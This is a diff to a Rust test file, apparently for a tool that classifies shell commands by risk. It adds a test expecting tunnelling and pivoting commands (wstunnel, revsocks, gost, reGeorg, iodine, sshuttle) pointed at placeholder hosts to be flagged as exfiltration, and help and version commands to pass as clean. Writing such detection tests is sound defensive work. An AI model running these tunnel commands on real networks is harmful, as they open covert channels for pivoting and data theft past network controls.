@@ -230,3 +230,26 @@ fn scripts_and_reads_are_not_paths_handed_over() {
         "SelfEscalation High",
     );
 }
+
+/// First untuned measure of InternalAllTheThings' pivoting tools page
+/// (session 15): tunnelling and pivoting tools other than chisel passed
+/// (wstunnel, revsocks, gost, frps, reGeorg...). A row of them, from
+/// ATT&CK T1572/T1090 and the tools' own pages.
+#[test]
+fn tunnelling_tools_are_exfiltration_channels() {
+    each(
+        &[
+            "wstunnel client -L socks5://127.0.0.1:8888 wss://x.example:8080",
+            "revsocks -listen :8443 -socks 127.0.0.1:1080 -pass x -tls",
+            "gost -L=:8080 -F=socks5://203.0.113.5:1080",
+            "python reGeorgSocksProxy.py --listen-port 8080 --url http://x.example/a.jsp",
+            "iodine -f 203.0.113.5 t.example",
+        ],
+        "Exfiltration High",
+    );
+    each(
+        &["sshuttle -r user@10.10.10.10 10.1.1.0/24"],
+        "Exfiltration Medium",
+    );
+    each(&["wstunnel --help", "ssh -V"], "clean");
+}
